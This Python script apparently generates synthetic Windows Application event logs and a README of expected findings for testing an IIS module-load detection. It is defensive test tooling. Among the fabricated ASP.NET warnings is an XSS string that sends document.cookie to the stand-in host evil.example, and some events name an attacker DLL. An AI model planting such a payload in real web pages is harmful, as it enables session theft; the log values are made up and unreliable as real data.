#!/usr/bin/env python3
"""Generate Vigil's bundled sample Windows Application event log.

Writes, relative to the repository root (the parent of this script's folder):

  samples/Application.xmlwineventlog.log  Splunk XmlWinEventLog form: one <Event> per line,
                                          single-quoted attributes, SystemTime with 9 digits
  samples/Application.wevtutil.xml        Event Viewer / wevtutil form: XML declaration, <Events>
                                          wrapper, double quotes, pretty-printed, 7-digit SystemTime
  samples/README.md                       what the files are and the findings the ESCU detection
                                          "Windows IIS Components Module Failed to Load" should give

Both files hold exactly the same events in the same order. Standard library only and
deterministic (fixed seed, no clock): running it twice gives byte-identical files.

Usage: python3 tools/make-samples.py
"""

import datetime as dt
import os
import random
import sys
import uuid
import xml.etree.ElementTree as ET

SEED = 20221220
NS = "http://schemas.microsoft.com/win/2004/08/events/event"

WEB01 = "web01.contoso.local"
EXCH01 = "win-dc-exch01.attackrange.local"

# First EventRecordID per host. Record ids are consecutive per host in file order.
# win-dc-exch01's start is chosen so that the event copied from ESCU's example_log keeps its
# real EventRecordID 1001307 (checked below).
RECORD_START = {WEB01: 48213, EXCH01: 1001300}

ADMIN_SID = "S-1-5-21-3623811015-3361044348-30300820-500"

# ---------------------------------------------------------------- providers
# classic (ReportEvent) sources have only a Name; manifest providers have a Guid, and
# manifest providers that also serve a legacy event source carry EventSourceName.
P_W3SVC_WP = ("Microsoft-Windows-IIS-W3SVC-WP", "{670080D9-742A-4187-8D16-41143D1290BD}", "W3SVC-WP")
P_SPP = ("Microsoft-Windows-Security-SPP", "{E23B33B0-C8C9-472C-A5F9-F2BDFEA0F156}",
         "Software Protection Platform Service")
P_PROFSVC = ("Microsoft-Windows-User Profiles Service", "{89B1E9F0-5AFF-44A6-9B44-0A07A7CE5845}", None)
P_RM = ("Microsoft-Windows-RestartManager", "{0888E5EF-9B98-4695-979D-E92CE4247224}", None)
P_APPERR = ("Application Error", None, None)
P_WER = ("Windows Error Reporting", None, None)
P_MSI = ("MsiInstaller", None, None)
P_VSS = ("VSS", None, None)
P_ASPNET = ("ASP.NET 4.0.30319.0", None, None)

KW_CLASSIC = "0x80000000000000"
KW_CHANNEL = "0x8000000000000000"

rng = random.Random(SEED)


def rguid():
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def ts(text, frac=None):
    """'2022-12-20 15:58:25' (UTC) -> (datetime, 100ns ticks 0..9999999). Random ticks unless given."""
    t = dt.datetime.strptime(text, "%Y-%m-%d %H:%M:%S").replace(tzinfo=dt.timezone.utc)
    return (t, rng.randrange(10_000_000) if frac is None else frac)


def ev(host, when, provider, eid, *, qualifiers=None, level=4, task=0, keywords=KW_CLASSIC,
       pid=0, tid=0, user=None, data=(), binary=None, order=None, record=None):
    """One event. data: list of (Name or None, value). order: sort key for file position when the
    event is deliberately out of time order (defaults to its own time)."""
    return dict(host=host, when=when, provider=provider, eid=eid, qualifiers=qualifiers, level=level,
                task=task, keywords=keywords, pid=pid, tid=tid, user=user, data=list(data),
                binary=binary, order=order, record=record)


def ascii_hex(s):
    return s.encode("ascii").hex().upper()


# ---------------------------------------------------------------- event builders
def w3svc_2282(host, when, dll, arch, order=None, record=None):
    # "The Module DLL '%1' could not be loaded due to a configuration problem. The current
    # configuration only supports loading images built for a %2 processor architecture. The data
    # field contains the error number." Binary C1000000 = 193 ERROR_BAD_EXE_FORMAT.
    return ev(host, when, P_W3SVC_WP, 2282, qualifiers=49152, level=2, order=order, record=record,
              data=[("ModuleDll", dll), ("ProcessorArchitecture", arch)], binary="C1000000")


def w3svc_2280(host, when, dll, err=126):
    # "The Module DLL %1 failed to load. The data is the error." 126 ERROR_MOD_NOT_FOUND.
    return ev(host, when, P_W3SVC_WP, 2280, qualifiers=49152, level=2,
              data=[("ModuleDll", dll)], binary=err.to_bytes(4, "little").hex().upper())


def spp_16384(host, when, restart_at, reason="RulesEngine"):
    # "Successfully scheduled Software Protection service for re-start at %1. Reason: %2."
    return ev(host, when, P_SPP, 16384, qualifiers=16384,
              data=[(None, restart_at), (None, reason)])


def spp_16394(host, when):
    # "Offline downlevel migration succeeded."
    return ev(host, when, P_SPP, 16394, qualifiers=16384)


def profsvc(host, when, eid, pid, tid):
    # 1531 "The User Profile Service has started successfully." / 1532 "... has stopped."
    return ev(host, when, P_PROFSVC, eid, keywords=KW_CHANNEL, pid=pid, tid=tid, user="S-1-5-18")


def vss_8224(host, when, pid, tid):
    # "The VSS service is shutting down due to idle timeout." Binary = ASCII context string.
    text = ("- Code:  CORSVCSC00000533- Call:  CORSVCSC00000507- PID:  %08d- TID:  %08d- "
            "CMD:  C:\\Windows\\system32\\vssvc.exe   - User: Name: NT AUTHORITY\\SYSTEM, SID:S-1-5-18 "
            % (pid, tid))
    return ev(host, when, P_VSS, 8224, qualifiers=0, binary=ascii_hex(text))


def rm(host, when, eid, session, start_utc, pid, tid):
    # 10000 "Starting session %1 - %2." / 10001 "Ending session %1 started %2."
    return ev(host, when, P_RM, eid, keywords=KW_CHANNEL, pid=pid, tid=tid, user=ADMIN_SID,
              data=[("RmSessionId", str(session)), ("UTCStartTime", start_utc)])


def msi(host, when, eid, strings, product_code=None):
    data = [(None, s) for s in strings]
    return ev(host, when, P_MSI, eid, qualifiers=0, user=ADMIN_SID, data=data,
              binary=ascii_hex(product_code) if product_code else None)


def systemtime(when, digits):
    t, ticks = when
    base = t.strftime("%Y-%m-%dT%H:%M:%S")
    frac = "%07d" % ticks
    return "%s.%sZ" % (base, frac + "00" if digits == 9 else frac)


# ---------------------------------------------------------------- the log
def build_events():
    E = []
    # ---- Dec 20, web01 boots after patching
    E.append(profsvc(WEB01, ts("2022-12-20 07:58:12"), 1531, 1188, 1196))
    E.append(spp_16394(WEB01, ts("2022-12-20 07:58:31")))
    E.append(spp_16384(WEB01, ts("2022-12-20 07:58:33"), "2122-11-26T07:58:33Z"))
    E.append(vss_8224(WEB01, ts("2022-12-20 08:02:45"), 3604, 4932))
    E.append(spp_16384(WEB01, ts("2022-12-20 08:29:02"), "2022-12-21T08:29:02Z"))
    # ---- Dec 20, win-dc-exch01 (Attack Range Exchange box) boots
    E.append(profsvc(EXCH01, ts("2022-12-20 09:40:55"), 1531, 1304, 1312))
    E.append(spp_16394(EXCH01, ts("2022-12-20 09:41:20")))
    E.append(spp_16384(EXCH01, ts("2022-12-20 09:41:22"), "2122-11-26T09:41:22Z"))

    # ---- Dec 20 10:14, admin installs IIS URL Rewrite on web01
    code = "{%s}" % rguid().upper()
    msi_path = "C:\\Users\\Administrator\\Downloads\\rewrite_amd64_en-US.msi"
    nulls = ["(NULL)"] * 5 + [""]
    rm_start = systemtime(ts("2022-12-20 10:14:03"), 9)
    E.append(rm(WEB01, ts("2022-12-20 10:14:03"), 10000, 0, rm_start, 4312, 5140))
    E.append(msi(WEB01, ts("2022-12-20 10:14:03"), 1040, [msi_path, "4312"] + nulls[1:]))
    E.append(msi(WEB01, ts("2022-12-20 10:14:19"), 11707,
                 ["Product: IIS URL Rewrite Module 2 -- Installation completed successfully."] + nulls,
                 code))
    E.append(msi(WEB01, ts("2022-12-20 10:14:19"), 1033,
                 ["IIS URL Rewrite Module 2", "7.2.1993", "1033", "0", "Microsoft Corporation",
                  "(NULL)", ""], code))
    E.append(msi(WEB01, ts("2022-12-20 10:14:19"), 1042, [msi_path, "4312"] + nulls[1:]))
    E.append(rm(WEB01, ts("2022-12-20 10:14:20"), 10001, 0, rm_start, 4312, 5140))

    # ---- benign misconfiguration: the 32-bit rewrite.dll registered in <globalModules> without
    # preCondition="bitness32"; the 64-bit worker processes refuse it (AMD64 = what they accept).
    rewrite32 = "C:\\Windows\\SysWOW64\\inetsrv\\rewrite.dll"
    for t in ["2022-12-20 10:21:37", "2022-12-20 10:21:38", "2022-12-20 13:05:12"]:
        E.append(w3svc_2282(WEB01, ts(t), rewrite32, "AMD64"))
    # last one of the group has fractional seconds .9999999: ctime must truncate to :42, not round
    E.append(w3svc_2282(WEB01, ts("2022-12-21 08:15:42", 9_999_999), rewrite32, "AMD64"))

    # ---- 2280 (not 2282): a module removed from disk but still configured, ERROR_MOD_NOT_FOUND
    iisnode = "C:\\Program Files\\iisnode\\iisnode.dll"
    for t in ["2022-12-20 11:02:08", "2022-12-20 11:02:09", "2022-12-20 11:02:11"]:
        E.append(w3svc_2280(WEB01, ts(t), iisnode))

    E.append(vss_8224(EXCH01, ts("2022-12-20 11:45:03"), 6120, 2252))
    E.append(spp_16384(WEB01, ts("2022-12-20 12:00:41"), "2022-12-21T12:00:41Z"))

    # ---- ASP.NET 1309 warnings on web01 (request validation) - entities in Data text
    def aspnet(when, seq, exc_type, exc_msg, url, path, client, stack):
        t = when[0]
        clock = "%d/%d/%d %d:%02d:%02d %s" % (t.month, t.day, t.year, (t.hour % 12) or 12,
                                                t.minute, t.second, "AM" if t.hour < 12 else "PM")
        return ev(WEB01, when, P_ASPNET, 1309, qualifiers=32768, level=3, task=3, data=[
            (None, v) for v in [
                "3005", "An unhandled exception has occurred.", clock, clock,
                uuid.UUID(int=rng.getrandbits(128)).hex, str(seq), "1", "0",
                "/LM/W3SVC/1/ROOT/portal-1-133160201512345678", "Full", "/portal",
                "C:\\inetpub\\wwwroot\\portal\\", "WEB01", "", "5124", "w3wp.exe",
                "IIS APPPOOL\\PortalPool", exc_type, exc_msg, url, path, client, "", "False", "",
                "IIS APPPOOL\\PortalPool", str(rng.randrange(5, 60)), "IIS APPPOOL\\PortalPool",
                "False", stack, ""]])
    xss = ("A potentially dangerous Request.Form value was detected from the client "
           "(txtComment=\"<script>alert('x')...\").")
    stack_v = ("   at System.Web.HttpRequest.ValidateString(String value, String collectionKey, "
               "RequestValidationSource requestCollection)")
    E.append(aspnet(ts("2022-12-20 14:31:06"), 7, "HttpRequestValidationException", xss,
                    "https://web01.contoso.local:443/portal/Comment.aspx?id=42&lang=en",
                    "/portal/Comment.aspx", "10.20.4.17", stack_v))
    E.append(aspnet(ts("2022-12-20 14:31:09"), 8, "HttpRequestValidationException", xss,
                    "https://web01.contoso.local:443/portal/Comment.aspx?id=42&lang=en",
                    "/portal/Comment.aspx", "10.20.4.17", stack_v))

    # ---- the attack on win-dc-exch01: c:\temp\msf.dll, three refusals. The third record in the
    # file carries the earliest time (out of time order); the middle one is ESCU's example_log.
    msf = "c:\\temp\\msf.dll"
    E.append(w3svc_2282(EXCH01, ts("2022-12-20 15:41:07"), msf, "AMD64"))
    E.append(w3svc_2282(EXCH01, ts("2022-12-20 15:58:25", 3253836), msf, "AMD64", record=1001307))
    E.append(w3svc_2282(EXCH01, ts("2022-12-20 15:12:09"), msf, "AMD64",
                        order=ts("2022-12-20 15:58:26", 0)))

    # ---- third-party agent on web01 in a path with a non-ASCII character and an ampersand;
    # 64-bit agent DLL, pool switched to enable32BitAppOnWin64 (x86 = what it accepts)
    agent = "C:\\Program Files\\Agent \u00dc&Co\\module.dll"
    E.append(w3svc_2282(WEB01, ts("2022-12-20 17:05:50"), agent, "x86"))

    E.append(spp_16384(EXCH01, ts("2022-12-20 17:44:10"), "2022-12-21T17:44:10Z"))
    E.append(vss_8224(WEB01, ts("2022-12-20 18:30:27"), 7716, 6048))
    E.append(aspnet(ts("2022-12-20 19:12:44"), 9, "HttpException",
                    "The file '/portal/old/default.aspx' does not exist.",
                    "https://web01.contoso.local:443/portal/old/default.aspx?ref=mail&utm=x",
                    "/portal/old/default.aspx", "10.20.7.3",
                    "   at System.Web.UI.Util.CheckVirtualFileExists(VirtualPath virtualPath)"))
    E.append(spp_16384(WEB01, ts("2022-12-20 20:00:15"), "2022-12-21T20:00:15Z"))
    E.append(vss_8224(EXCH01, ts("2022-12-20 22:15:59"), 5300, 1884))

    # ---- Dec 21, web01: attacker-ish module in a user-writable folder, refused twice
    owa = "C:\\Users\\Public\\Libraries\\owa_auth.dll"
    E.append(w3svc_2282(WEB01, ts("2022-12-21 02:47:33"), owa, "AMD64"))
    E.append(w3svc_2282(WEB01, ts("2022-12-21 02:48:01"), owa, "AMD64"))

    # ---- Dec 21 03:10, web01 reboots for updates
    E.append(profsvc(WEB01, ts("2022-12-21 03:10:05"), 1532, 1188, 1472))
    E.append(profsvc(WEB01, ts("2022-12-21 03:12:48"), 1531, 1176, 1184))
    E.append(spp_16394(WEB01, ts("2022-12-21 03:13:07")))
    E.append(spp_16384(WEB01, ts("2022-12-21 03:13:09"), "2122-11-27T03:13:09Z"))

    # ---- Dec 21, more on web01
    E.append(vss_8224(WEB01, ts("2022-12-21 06:30:41"), 3388, 4020))
    E.append(spp_16384(EXCH01, ts("2022-12-21 07:02:37"), "2022-12-22T07:02:37Z"))

    # w3wp crash (heap corruption) and its WER report
    crash = ts("2022-12-21 09:47:18")
    rep = rguid()
    E.append(ev(WEB01, crash, P_APPERR, 1000, qualifiers=0, level=2, task=100, data=[(None, v) for v in [
        "w3wp.exe", "10.0.17763.1", "cfc7b0d6", "ntdll.dll", "10.0.17763.3532", "5f5e2b62",
        "c0000374", "00000000000f9269", "0x1a2c", "0x01d915017c3a8e21",
        "c:\\windows\\system32\\inetsrv\\w3wp.exe", "C:\\Windows\\SYSTEM32\\ntdll.dll", rep, "", ""]]))
    arch = ("\\\\?\\C:\\ProgramData\\Microsoft\\Windows\\WER\\ReportArchive\\"
            "AppCrash_w3wp.exe_9f4f0c8c9e7d3c2b6a1f8e5d4c3b2a19880a4f1_d6a3c1b2_%s" % rguid())
    E.append(ev(WEB01, ts("2022-12-21 09:47:21"), P_WER, 1001, qualifiers=0, data=[(None, v) for v in [
        "1748311295764125537", "5", "APPCRASH", "Not available", "0",
        "w3wp.exe", "10.0.17763.1", "cfc7b0d6", "ntdll.dll", "10.0.17763.3532", "5f5e2b62",
        "c0000374", "00000000000f9269", "", "",
        "\\\\?\\C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\WER8C21.tmp.mdmp",
        arch, "", "0", rep, "268435456", "8a3c2f4e1b9d7a6c05f1e2d3c4b5a697", "0"]]))

    for t in ["2022-12-21 10:30:00", "2022-12-21 14:30:00"]:
        E.append(spp_16384(WEB01, ts(t[:-2] + "%02d" % rng.randrange(60)),
                           "2022-12-22T%s:%02d:%02dZ" % (t[11:13], rng.randrange(60), rng.randrange(60))))
    E.append(w3svc_2280(WEB01, ts("2022-12-21 11:20:14"), iisnode))
    E.append(vss_8224(EXCH01, ts("2022-12-21 12:05:33"), 4408, 3968))
    E.append(aspnet(ts("2022-12-21 13:22:51"), 12, "HttpRequestValidationException", xss.replace(
        "alert('x')", "document.location='//evil.example/?c='+document.cookie"),
        "https://web01.contoso.local:443/portal/Comment.aspx?id=7&lang=de",
        "/portal/Comment.aspx", "203.0.113.45", stack_v))
    E.append(vss_8224(WEB01, ts("2022-12-21 18:30:12"), 8120, 2716))
    E.append(spp_16384(EXCH01, ts("2022-12-21 19:44:52"), "2022-12-22T19:44:52Z"))
    E.append(spp_16384(WEB01, ts("2022-12-21 21:02:26"), "2022-12-22T21:02:26Z"))
    return E


# A few scheduled Software Protection re-arms and idle VSS shutdowns through both days give the
# log its ordinary background; add them deterministically so the log reaches ~70 events.
def background(events):
    extra = []
    for host, days in ((WEB01, ("2022-12-20", "2022-12-21")), (EXCH01, ("2022-12-20", "2022-12-21"))):
        for day in days:
            first_hour = 10 if (host, day) == (EXCH01, "2022-12-20") else 8  # after its boot at 09:40
            for hour in rng.sample(range(first_hour, 23), 4):
                t = ts("%s %02d:%02d:%02d" % (day, hour, rng.randrange(60), rng.randrange(60)))
                if rng.random() < 0.5:
                    extra.append(vss_8224(host, t, rng.randrange(1000, 9000, 4), rng.randrange(1000, 9000, 4)))
                else:
                    nxt = t[0] + dt.timedelta(days=1)
                    extra.append(spp_16384(host, t, nxt.strftime("%Y-%m-%dT%H:%M:%SZ")))
    return events + extra


def order_and_number(events):
    key = lambda e: (e["order"] or e["when"], e["host"])
    events = sorted(events, key=key)
    nxt = dict(RECORD_START)
    for e in events:
        e["recid"] = nxt[e["host"]]
        nxt[e["host"]] += 1
        if e["record"] is not None and e["record"] != e["recid"]:
            sys.exit("record id mismatch: wanted %d, got %d; adjust RECORD_START" % (e["record"], e["recid"]))
    return events


# ---------------------------------------------------------------- serialisation
def esc_text(s, quot):
    s = s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return s.replace('"', "&quot;") if quot else s


def esc_attr(s, q):
    s = s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return s.replace("'", "&apos;") if q == "'" else s.replace('"', "&quot;")


def tree(e, digits):
    """Event as nested (tag, [(attr, value)], text-or-None, [children])."""
    name, guid, esn = e["provider"]
    prov = [("Name", name)] + ([("Guid", guid)] if guid else []) + ([("EventSourceName", esn)] if esn else [])
    eid_attrs = [("Qualifiers", str(e["qualifiers"]))] if e["qualifiers"] is not None else []
    system = [
        ("Provider", prov, None, []),
        ("EventID", eid_attrs, str(e["eid"]), []),
        ("Version", [], "0", []),
        ("Level", [], str(e["level"]), []),
        ("Task", [], str(e["task"]), []),
        ("Opcode", [], "0", []),
        ("Keywords", [], e["keywords"], []),
        ("TimeCreated", [("SystemTime", systemtime(e["when"], digits))], None, []),
        ("EventRecordID", [], str(e["recid"]), []),
        ("Correlation", [], None, []),
        ("Execution", [("ProcessID", str(e["pid"])), ("ThreadID", str(e["tid"]))], None, []),
        ("Channel", [], "Application", []),
        ("Computer", [], e["host"], []),
        ("Security", [("UserID", e["user"])] if e["user"] else [], None, []),
    ]
    data = [("Data", [("Name", n)] if n else [], v, []) for n, v in e["data"]]
    if e["binary"] is not None:
        data.append(("Binary", [], e["binary"], []))
    return ("Event", [("xmlns", NS)], None, [("System", [], None, system), ("EventData", [], None, data)])


def compact(node):
    """Splunk XmlWinEventLog: single quotes, no whitespace, '/>' for empty elements."""
    tag, attrs, text, kids = node
    a = "".join(" %s='%s'" % (k, esc_attr(v, "'")) for k, v in attrs)
    if text is None and not kids:
        return "<%s%s/>" % (tag, a)
    inner = esc_text(text, True) if text is not None else "".join(compact(k) for k in kids)
    return "<%s%s>%s</%s>" % (tag, a, inner, tag)


def pretty(node, depth, out):
    """Event Viewer style: double quotes, two-space indentation, ' />' for empty elements."""
    tag, attrs, text, kids = node
    pad = "  " * depth
    a = "".join(' %s="%s"' % (k, esc_attr(v, '"')) for k, v in attrs)
    if text is None and not kids:
        out.append("%s<%s%s />" % (pad, tag, a))
    elif text is not None:
        out.append("%s<%s%s>%s</%s>" % (pad, tag, a, esc_text(text, False), tag))
    else:
        out.append("%s<%s%s>" % (pad, tag, a))
        for k in kids:
            pretty(k, depth + 1, out)
        out.append("%s</%s>" % (pad, tag))


# ---------------------------------------------------------------- expected findings
def ctime(when):
    return when[0].strftime("%Y-%m-%dT%H:%M:%S")  # seconds truncated, like %Y-%m-%dT%H:%M:%S of _time


def findings(events):
    groups = {}
    for e in events:
        if e["eid"] != 2282:
            continue
        mod = dict(e["data"])["ModuleDll"]
        k = ("2282", e["host"], e["provider"][0], mod)
        g = groups.setdefault(k, {"count": 0, "first": None, "last": None, "arch": set()})
        g["count"] += 1
        g["arch"].add(dict(e["data"])["ProcessorArchitecture"])
        if g["first"] is None or e["when"] < g["first"]:
            g["first"] = e["when"]
        if g["last"] is None or e["when"] > g["last"]:
            g["last"] = e["when"]
    keys = sorted(groups, key=lambda k: (k[1].encode("utf-8"), k[3].encode("utf-8")))
    return [(k, groups[k]) for k in keys]


def findings_table(rows):
    head = ("| EventCode | dest | Name | ModuleDll | ProcessorArchitecture | count | firstTime | lastTime |\n"
            "|---|---|---|---|---|---|---|---|\n")
    body = "".join("| %s | %s | %s | `%s` | %s | %d | %s | %s |\n" % (
        k[0], k[1], k[2], k[3], ",".join(sorted(g["arch"])), g["count"], ctime(g["first"]), ctime(g["last"]))
        for k, g in rows)
    return head + body


def plain_table(rows):
    lines = ["EventCode\tdest\tName\tModuleDll\tcount\tfirstTime\tlastTime"]
    for k, g in rows:
        lines.append("%s\t%s\t%s\t%s\t%d\t%s\t%s" % (k + (g["count"], ctime(g["first"]), ctime(g["last"]))))
    return "\n".join(lines)


README = """# Sample data

A small Windows **Application** event log from two IIS servers, `web01.contoso.local` and
`win-dc-exch01.attackrange.local`, covering 2022-12-20 and 2022-12-21 (UTC): {n} events
({n2282} of them IIS event 2282). It is made for the ESCU detection
"Windows IIS Components Module Failed to Load" (EventCode 2282), e.g.

    vigil hunt samples/Application.xmlwineventlog.log
    vigil hunt samples/Application.wevtutil.xml

## Files

| file | form |
|---|---|
| `Application.xmlwineventlog.log` | Splunk's `XmlWinEventLog` form, as in Splunk attack_data files: one `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>…</Event>` per line, single-quoted attributes, no wrapper or XML declaration, UTF-8 without BOM, `\\n` line ends, `SystemTime` with 9 fractional digits ending `00` (`2022-12-20T15:58:25.325383600Z`). |
| `Application.wevtutil.xml` | The same events, in the same order, as Event Viewer's XML view shows them: `<?xml version="1.0" encoding="UTF-8"?>`, an `<Events>` wrapper, double-quoted attributes, two-space indentation, `SystemTime` with 7 fractional digits (`2022-12-20T15:58:25.3253836Z`). |

Both files are generated; do not edit them by hand. To regenerate them and this README, run:

    python3 tools/make-samples.py

The script uses only the Python standard library, a fixed seed and no clock, so its output is
byte-identical on every run. It checks that each line of the first file and the whole second file
parse as XML, and that both hold the same events.

## What is in the log

* **Background noise** with real providers and event ids: Software Protection (`Microsoft-Windows-Security-SPP`
  16384, 16394), `VSS` 8224 (idle shutdown; `<Binary>` holds ASCII context), User Profile Service 1531/1532
  (reboots), a URL Rewrite install (`Microsoft-Windows-RestartManager` 10000/10001, `MsiInstaller` 1040,
  11707, 1033, 1042), ASP.NET 1309 request-validation warnings (text with `&`, `<` and `"`), a `w3wp.exe`
  crash (`Application Error` 1000 + `Windows Error Reporting` 1001).
* **IIS 2280** (`The Module DLL %1 failed to load`, `<Binary>7E000000</Binary>` = 126 ERROR_MOD_NOT_FOUND):
  a removed `iisnode.dll` that is still configured. Not a 2282, so not a finding.
* **IIS 2282** (`The Module DLL '%1' could not be loaded due to a configuration problem. The current configuration
  only supports loading images built for a %2 processor architecture.`, `<Binary>C1000000</Binary>` = 193
  ERROR_BAD_EXE_FORMAT), provider `Microsoft-Windows-IIS-W3SVC-WP`:
  * `c:\\temp\\msf.dll` on `win-dc-exch01` (the attack; the event with EventRecordID 1001307 is ESCU's
    `example_log`, byte for byte). The third of its three events carries the earliest time, so
    the file is not in time order there.
  * `C:\\Users\\Public\\Libraries\\owa_auth.dll` on `web01`: a module in a user-writable folder.
  * `C:\\Windows\\SysWOW64\\inetsrv\\rewrite.dll` on `web01`: benign misconfiguration (the 32-bit URL
    Rewrite registered in `<globalModules>` without `preCondition="bitness32"`, refused by 64-bit pools,
    so `ProcessorArchitecture` is `AMD64`). Its last event is at `08:15:42.9999999`, which must show as
    `08:15:42` (truncated, not rounded).
  * `C:\\Program Files\\Agent Ü&Co\\module.dll` on `web01` (written `Agent Ü&amp;Co` in the files): a 64-bit
    agent DLL refused by a pool running 32-bit (`ProcessorArchitecture` `x86`).

## Expected findings

What `` `wineventlog_application` EventCode=2282 | stats count min(_time) as firstTime max(_time) as lastTime
by EventCode dest Name ModuleDll `` followed by `security_content_ctime` on both times should give (times UTC,
truncated to seconds; rows sorted by dest, then ModuleDll in byte order; `ProcessorArchitecture` is shown for
reference and is not a group-by field). `ModuleDll` is the entity-decoded value.

{table}

## Notes

* EventRecordIDs are consecutive per host (`web01` from 48213, `win-dc-exch01` from 1001300) in file order.
* No WAS 5002 (rapid-fail protection disabling a pool): WAS logs to the **System** log, not Application.
* Real `wevtutil qe Application /f:xml` writes each event on one line with no declaration and no wrapper
  (`/e:Events` adds the wrapper); the pretty-printed form here is what Event Viewer's XML view shows.
  Parsers should accept both.
* In the Splunk form, `"` inside element text is written `&quot;` (as Splunk data shows); in the Event
  Viewer form it is left literal.
* The noise events' field layouts follow real Windows events from memory; values (product codes, bucket
  ids, hashes, PIDs) are made up.
"""


def main():
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    out_dir = os.path.join(root, "samples")
    os.makedirs(out_dir, exist_ok=True)

    events = order_and_number(background(build_events()))

    lines = [compact(tree(e, 9)) for e in events]
    splunk = "".join(l + "\n" for l in lines)

    pl = ['<?xml version="1.0" encoding="UTF-8"?>', "<Events>"]
    for e in events:
        pretty(tree(e, 7), 1, pl)
    pl.append("</Events>")
    wevt = "\n".join(pl) + "\n"

    # ---- checks: well-formed, same events in both files
    def norm(el):
        return (el.tag, sorted(el.attrib.items()), (el.text or "").strip() if len(el) == 0 else "",
                [norm(c) for c in el])

    parsed1 = [ET.fromstring(l) for l in lines]
    parsed2 = list(ET.fromstring(wevt.encode("utf-8")))
    assert len(parsed1) == len(parsed2) == len(events)
    q = "{%s}" % NS
    for a, b in zip(parsed1, parsed2):
        ta = a.find(q + "System/" + q + "TimeCreated")
        tb = b.find(q + "System/" + q + "TimeCreated")
        sa, sb = ta.attrib["SystemTime"], tb.attrib["SystemTime"]
        assert sa[:-3] + "Z" == sb and sa.endswith("00Z"), (sa, sb)
        ta.attrib["SystemTime"] = tb.attrib["SystemTime"]
        assert norm(a) == norm(b)
    # the ESCU example_log event is reproduced exactly
    example = ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider "
               "Name='Microsoft-Windows-IIS-W3SVC-WP' Guid='{670080D9-742A-4187-8D16-41143D1290BD}' "
               "EventSourceName='W3SVC-WP'/><EventID Qualifiers='49152'>2282</EventID><Version>0</Version>"
               "<Level>2</Level><Task>0</Task><Opcode>0</Opcode><Keywords>0x80000000000000</Keywords><TimeCreated "
               "SystemTime='2022-12-20T15:58:25.325383600Z'/><EventRecordID>1001307</EventRecordID><Correlation/>"
               "<Execution ProcessID='0' ThreadID='0'/><Channel>Application</Channel><Computer>"
               "win-dc-exch01.attackrange.local</Computer><Security/></System><EventData><Data "
               "Name='ModuleDll'>c:\\temp\\msf.dll</Data><Data Name='ProcessorArchitecture'>AMD64</Data>"
               "<Binary>C1000000</Binary></EventData></Event>")
    assert example in lines and len(example.encode()) == 745

    rows = findings(events)
    n2282 = sum(1 for e in events if e["eid"] == 2282)
    readme = README.format(n=len(events), n2282=n2282, table=findings_table(rows))

    for name, text in (("Application.xmlwineventlog.log", splunk), ("Application.wevtutil.xml", wevt),
                       ("README.md", readme)):
        with open(os.path.join(out_dir, name), "w", encoding="utf-8", newline="\n") as f:
            f.write(text)

    print("wrote %d events (%d with EventCode 2282) to samples/" % (len(events), n2282))
    print(plain_table(rows))


if __name__ == "__main__":
    main()
